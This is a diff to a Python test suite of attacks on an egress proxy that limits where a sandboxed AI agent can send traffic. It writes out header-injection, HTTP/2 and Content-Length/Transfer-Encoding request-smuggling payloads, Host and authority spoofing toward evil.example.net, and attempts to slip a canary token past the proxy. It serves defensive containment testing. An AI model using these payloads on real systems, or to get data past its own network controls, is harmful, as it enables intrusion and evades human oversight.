@@ -3,7 +3,7 @@
 Each attack is a function that runs where the agent runs: `python3 attacks.py NAME PROXY` in its
 container, or called by a test. It returns all that the agent saw. Whether it worked is judged from
 that and from what arrived at the far end. FOREIGN is a host that no route names; API, FORGE and OPEN
-are routed: API is signed by egress, FORGE admits the prefix /api/v1/repos/team/project alone, OPEN is
+are routed: API and OLD (which speaks HTTP/1.1 alone) are signed by egress, FORGE admits the prefix /api/v1/repos/team/project alone, OPEN is
 neither signed nor narrowed.
 """
 
@@ -21,6 +21,7 @@ import h2.events
 API = "api.example.com"
 FORGE = "git.example.com"
 OPEN = "open.example.com"
+OLD = "h1.example.com"
 FOREIGN = "evil.example.net"
 INSIDE = "/api/v1/repos/team/project"
 # What the agent would smuggle out, or in the place of egress's credential.
@@ -159,12 +160,15 @@ def attack(name, guard, worked, run):
 HOST = [('routes.get(host.encode("idna").decode().lower())', "routes.get(host.lower(), Route(host.lower()))")]
 PORT = [("if port != 443 or not tls:", "if False:")]
 AUTHORITY = [("if sni is None or sni.lower() != route.host or not names or any(name != route.host for name in names):", "if False:")]
-METHOD = [('if method.upper() in ("CONNECT", "TRACE", "TRACK"):', "if False:")]
-GIT = [("if any(\"git-receive-pack\" in text.lower()", "if False and any(\"git-receive-pack\" in text.lower()")]
+METHOD = [('if method.upper() in ("CONNECT", "TRACE", "TRACK") or not re.fullmatch("[A-Za-z_-]+", method):', "if False:")]
+GIT = [('if writes or any("git-receive-pack" in text.lower()', 'if False and any("git-receive-pack" in text.lower()')]
 PATH = [("if route.path_allowlist and not all(", "if False and not all(")]
 DOTS = [('if any(segment and not segment.strip(" .")', 'if False and any(segment and not segment.strip(" .")')]
 STRIP = [('headers.pop("authorization", None)', "pass")]
-STRIP_PROXY = [('headers.pop("proxy-authorization", None)', "pass")]
+DROP = [("for name in DROPPED:", "for name in ():")]
+KEYS = [("for name in OTHER_CREDENTIALS:", "for name in ():")]
+CONTROL = [("judge_headers(headers.fields)", "pass")]
+HTTP2 = [('"http2": False', '"http2": True'), ('request.authority = ""', "pass")]
 RAW = [('"rawtcp": False', '"rawtcp": True')]
 VALID = [('"validate_inbound_headers": True', '"validate_inbound_headers": False')]
 
@@ -181,8 +185,8 @@ attack("plain http", PORT + AUTHORITY, lambda log, seen: any(entry["event"] == "
 attack("other server name", AUTHORITY, to_foreign, lambda p: request(p, OPEN, "/", sni=FOREIGN))
 attack("other Host header", AUTHORITY, to_foreign, lambda p: request(p, OPEN, "/", host_header=FOREIGN))
 attack("second Host header", AUTHORITY, to_foreign, lambda p: request(p, OPEN, "/", f"Host: {FOREIGN}"))
-attack("other authority in HTTP/2", AUTHORITY, to_foreign, lambda p: request_h2(p, OPEN, pseudo(OPEN, authority=FOREIGN)))
-attack("Host beside the authority in HTTP/2", AUTHORITY + VALID, to_foreign, lambda p: request_h2(p, OPEN, [*pseudo(OPEN), ("host", FOREIGN)]))
+attack("other authority in HTTP/2", HTTP2 + AUTHORITY, to_foreign, lambda p: request_h2(p, OPEN, pseudo(OPEN, authority=FOREIGN)))
+attack("Host beside the authority in HTTP/2", HTTP2 + AUTHORITY + VALID, to_foreign, lambda p: request_h2(p, OPEN, [*pseudo(OPEN), ("host", FOREIGN)]))
 attack("absolute target in the tunnel", AUTHORITY + [('request.authority = ""', "pass")], to_foreign, lambda p: request(p, OPEN, f"https://{FOREIGN}/"))
 attack("token in a URL", AUTHORITY, canary_arrived, lambda p: request(p, OPEN, "/", host_header=f"user:{CANARY}@{OPEN}"))
 attack("websocket to a foreign host", HOST, to_foreign, lambda p: websocket(p, FOREIGN))
@@ -226,6 +230,7 @@ for name, target in {
     "in capitals": "/team/project.git/Git-Receive-Pack",
     "behind a fetch": "/team/project.git/info/refs?service=git-upload-pack&service=git-receive-pack",
     "full-width": "/team/project.git/git-receive-p%EF%BD%81ck",
+    "with wide escapes": "/team/project.git/git%u002dreceive-pack",
 }.items():
     attack(f"git push: {name}", GIT, lambda log, seen, target=target: arrived(log, target), lambda p, target=target: request(p, OPEN, target))
 attack(
@@ -237,20 +242,55 @@ for name, lines in {
     "plain": [f"Authorization: Bearer {CANARY}"],
     "in odd case": [f"aUTHORIZATION: Bearer {CANARY}"],
     "twice": ["Authorization: Bearer x", f"Authorization: Bearer {CANARY}"],
-    "continued on a second line": ["Authorization: Bearer", f" {CANARY}"],
-    "as a continuation of another": ["X-A: b", f"Authorization:\t{CANARY}"],
+    "after a tab": [f"Authorization:\tBearer {CANARY}"],
 }.items():
     attack(f"own Authorization: {name}", STRIP, canary_arrived, lambda p, lines=lines: request(p, OPEN, "/", *lines))
-attack("own Authorization: in HTTP/2", STRIP, canary_arrived, lambda p: request_h2(p, OPEN, [*pseudo(OPEN), ("authorization", CANARY)]))
-attack("own Authorization: in capitals in HTTP/2", STRIP + VALID, canary_arrived, lambda p: request_h2(p, OPEN, [*pseudo(OPEN), ("Authorization", CANARY)]))
+attack("own Authorization: in HTTP/2", HTTP2 + STRIP, canary_arrived, lambda p: request_h2(p, OPEN, [*pseudo(OPEN), ("authorization", CANARY)]))
+attack("own Authorization: in capitals in HTTP/2", HTTP2 + STRIP + VALID, canary_arrived, lambda p: request_h2(p, OPEN, [*pseudo(OPEN), ("Authorization", CANARY)]))
 attack(
-    "own Authorization: in a trailer", [("flow.request.trailers = None", "pass")], canary_arrived,
+    "own Authorization: in a trailer", HTTP2 + [("flow.request.trailers = None", "pass")], canary_arrived,
     lambda p: request_h2(p, OPEN, pseudo(OPEN, method="POST"), [("authorization", CANARY)]),
 )
-attack("own Proxy-Authorization", STRIP_PROXY, canary_arrived, lambda p: request(p, OPEN, "/", f"Proxy-Authorization: Basic {CANARY}"))
+attack("own Proxy-Authorization", DROP, canary_arrived, lambda p: request(p, OPEN, "/", f"Proxy-Authorization: Basic {CANARY}"))
 attack(
     "smuggling: length and chunks", VALID, lambda log, seen: arrived(log, "Transfer-Encoding: chunked") and arrived(log, "Content-Length: 40"),
     lambda p: request(p, OPEN, "/", "Content-Length: 40", "Transfer-Encoding: chunked", method="POST", body=f"0\r\n\r\nGET /{CANARY} HTTP/1.1\r\nHost: {OPEN}\r\n\r\n".encode()),
+)
+
+for name, line in {
+    "behind a bare carriage return": f"X-A: b\rAuthorization: Bearer {CANARY}",
+    "in a folded line": f"X-A: b\r\n Authorization: Bearer {CANARY}",
+    "continued on a second line": f"Authorization: Bearer\r\n {CANARY}",
+    "behind a NUL": f"X-A: b\0Authorization: Bearer {CANARY}",
+}.items():
+    attack(f"own Authorization: {name}", CONTROL + STRIP, canary_arrived, lambda p, line=line: request(p, OPEN, "/", line))
+for name in ("x-api-key", "Private-Token", "X-Goog-Api-Key"):
+    attack(f"own key for a signed host: {name}", KEYS, canary_arrived, lambda p, name=name: request(p, API, "/", f"{name}: {CANARY}"))
+for name in ("X-Original-URL", "X-Rewrite-URL"):
+    attack(f"path: in {name}", DROP, canary_arrived, lambda p, name=name: request(p, FORGE, INSIDE, f"{name}: /{CANARY}"))
+attack("git push: by writing files", GIT, lambda log, seen: arrived(log, "refs/heads/main"), lambda p: request(p, OPEN, "/team/project.git/refs/heads/main", "Content-Length: 0", method="PUT"))
+
+
+def smuggle_h2(proxy) -> bytes:
+    """A body without a length, which is a request to a server that speaks HTTP/1.1."""
+    tunnel = Tunnel(proxy, OLD, alpn=("h2",))
+    if not tunnel.open:
+        return tunnel.answer
+    connection = h2.connection.H2Connection()
+    connection.initiate_connection()
+    connection.send_headers(1, pseudo(OLD, method="POST"))
+    connection.send_data(1, f"GET /{CANARY} HTTP/1.1\r\nHost: {OLD}\r\n\r\n".encode(), end_stream=True)
+    return ask(tunnel.sock, connection.data_to_send())
+
+
+attack("smuggling: an HTTP/2 body without a length", HTTP2, canary_arrived, smuggle_h2)
+attack(
+    "smuggling: a line break in an HTTP/2 method", HTTP2 + METHOD, token_seen,
+    lambda p: request_h2(p, OLD, pseudo(OLD, method="TRACE / HTTP/1.1\r\nX: y")),
+)
+attack(
+    "smuggling: a line break in an HTTP/2 header", HTTP2 + CONTROL, lambda log, seen: arrived(log, CANARY),
+    lambda p: request_h2(p, OLD, [*pseudo(OLD), ("x-a", f"b\r\nAuthorization: Bearer {CANARY}")]),
 )
 
 
